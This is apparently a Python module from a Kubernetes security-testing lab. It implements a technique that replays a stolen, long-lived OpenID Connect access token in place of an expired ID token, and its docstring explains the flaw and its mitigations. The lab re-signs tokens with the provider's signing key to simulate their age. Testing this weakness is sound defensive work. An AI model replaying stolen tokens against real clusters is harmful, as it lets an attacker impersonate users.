"""Replay an access token of the OpenID provider, which the apiserver takes for an ID token.

A login ends with two tokens. The ID token is for the application, and expires soon. The access
token is for the provider, and often counts for days. Where it has the same form, with the same
issuer, audience and key, the apiserver cannot tell one from the other. The attacker has a copy of
both, two hours old: from a log, a browser or a kubeconfig. The ID token has expired; with the
access token they are still that person. Nobody can call it back. Access tokens that count for
minutes stop it, or a rule of the apiserver for how long a token may count at all.

The lab does not wait for two hours: it logs in, and then has the provider's own key sign the same
tokens with earlier times.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit import agents
from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.lab.provider import required_provider
from labkit.model import Foothold, Model
from labkit.model.decision import UNKNOWN, Caller
from labkit.model.id_tokens import caller_by_id_token, takes_id_tokens
from labkit.model.providers import provider_of
from labkit.techniques._lib.api.access import (
    ASK_IDENTITY,
    CHANNEL,
    apiserver_of,
    identity,
    in_turn,
    may_all,
)
from labkit.techniques._lib.api.people import PERSON, ask_who, new_token, person_is_known
from labkit.techniques._lib.machines.reach import legitimate
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

#: Seconds since the tokens were stolen.
AGE = 7200
#: The key that signs the tokens of a lab's provider.
KEY = "/etc/canaille/pki/signing.key"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the access token still counts, and whom the apiserver takes it for."""
    env = model.environment
    provider, caller = provider_of(env), _known_as(env)
    if provider is None or caller is None:
        if takes_id_tokens(env):
            return Prediction(None, ("how long a provider's tokens count is not known",))
        return Prediction(False, (f"no ID tokens are accepted: {apiserver_of(env).source}",))
    if not caller.user:
        return Prediction(None if caller.claim.value == UNKNOWN else False, (str(caller.claim),))
    seconds = provider.access_token_seconds
    source = provider.component.setting("access-token-expires-in").source
    if seconds is None:
        return Prediction(None, (f"how long an access token counts is not known: {source}",))
    if seconds <= AGE:
        return Prediction(False, (f"an access token counts for {seconds} s: {source}",))
    return may_all(model, caller, [ASK_IDENTITY])


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return what both tokens are shown for: who one is."""
    env = model.environment
    provider, caller = provider_of(env), _known_as(env)
    if provider is None or caller is None:
        return []
    nobody = Caller("", frozenset(), caller.claim)
    seconds = provider.access_token_seconds
    expired = seconds is not None and seconds <= AGE
    # the ID token expires first, whatever is set
    return [
        *in_turn(model, nobody, ASK_IDENTITY),
        *in_turn(model, nobody if expired else caller, ASK_IDENTITY),
    ]


def _known_as(env: Environment) -> Caller | None:
    """Return as whom the apiserver knows the token while it counts, or None without a provider."""
    provider = provider_of(env)
    if provider is None or provider.client is None:
        return None
    groups = provider.starts_in(PERSON, env)
    claims = provider.claims(PERSON, provider.client, groups, access=True)
    return caller_by_id_token(env, apiserver_of(env), provider.issuer.value, claims)


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Take both tokens of a login, two hours older, and ask as whom they are known."""
    with legitimate():
        tokens = {kind: new_token(lab, kind=kind) for kind in ("id_token", "access_token")}
        control = person_is_known(lab, tokens["id_token"])
        # signing it again must not be why it is refused
        fresh = ask_who(lab, COPIED_CREDENTIAL, _older(lab, tokens["access_token"], 0))
    expired = ask_who(lab, foothold, _older(lab, tokens["id_token"], AGE))
    if expired.refusal != "HTTP 401":
        raise ProbeError(f"{TECHNIQUE.name}: an ID token of {AGE} s ago is not refused")
    taken = f"{PERSON}'s tokens of {AGE} s ago; the ID token has expired: {expired.refusal}"
    answer = ask_who(lab, foothold, _older(lab, tokens["access_token"], AGE))
    if answer.refusal:
        if answer.refusal != "HTTP 401" or fresh.refusal not in ("", "HTTP 401"):
            raise ProbeError(f"{TECHNIQUE.name}: {answer.refusal} is no known refusal")
        if not fresh.refusal:
            control = "the same access token is accepted while it is new"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, False, answer.refusal, (taken,), control)
    user, groups = identity(answer)
    if not user.endswith(PERSON):
        raise ProbeError(f"the apiserver knows the token as {user or 'nobody'}, not as {PERSON}")
    known = f"the apiserver knows the access token as {user}, in {', '.join(groups)}"
    reason = f"HTTP {answer.status}"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (taken, known), "")


def _older(lab: Lab, token: str, seconds: int) -> str:
    """Return a token as the provider would have made it so many seconds ago."""
    wanted = {"token": token, "seconds": seconds, "key": KEY}
    node = required_provider(lab).component.node
    return lab.exec(node, agents.argv("older_token"), stdin=json.dumps(wanted).encode()).text


def _settings(env: Environment) -> list[Setting]:
    provider = provider_of(env)
    if provider is None:
        return []
    given = provider.component.setting("access-token-expires-in")
    return [("how long an access token counts, in seconds", given.value, str(given.source))]


TECHNIQUE = Technique(
    name="oidc-access-token",
    title="Replay an access token of the OpenID provider in place of an ID token",
    footholds=(COPIED_CREDENTIAL,),
    grants=(),
    about=CHANNEL,
    properties=(),
    attack=("T1550.001", "T1528"),
    stride=("spoofing",),
    cwe=("CWE-613",),
    sources=(
        "https://openid.net/specs/openid-connect-core-1_0.html#IDToken",
        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/"
        "#openid-connect-tokens",
        "https://www.rfc-editor.org/rfc/rfc6819#section-5.1.5.3",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
    machines=("idp",),
    modes=("oidc-insecure", "oidc-hardened"),
)
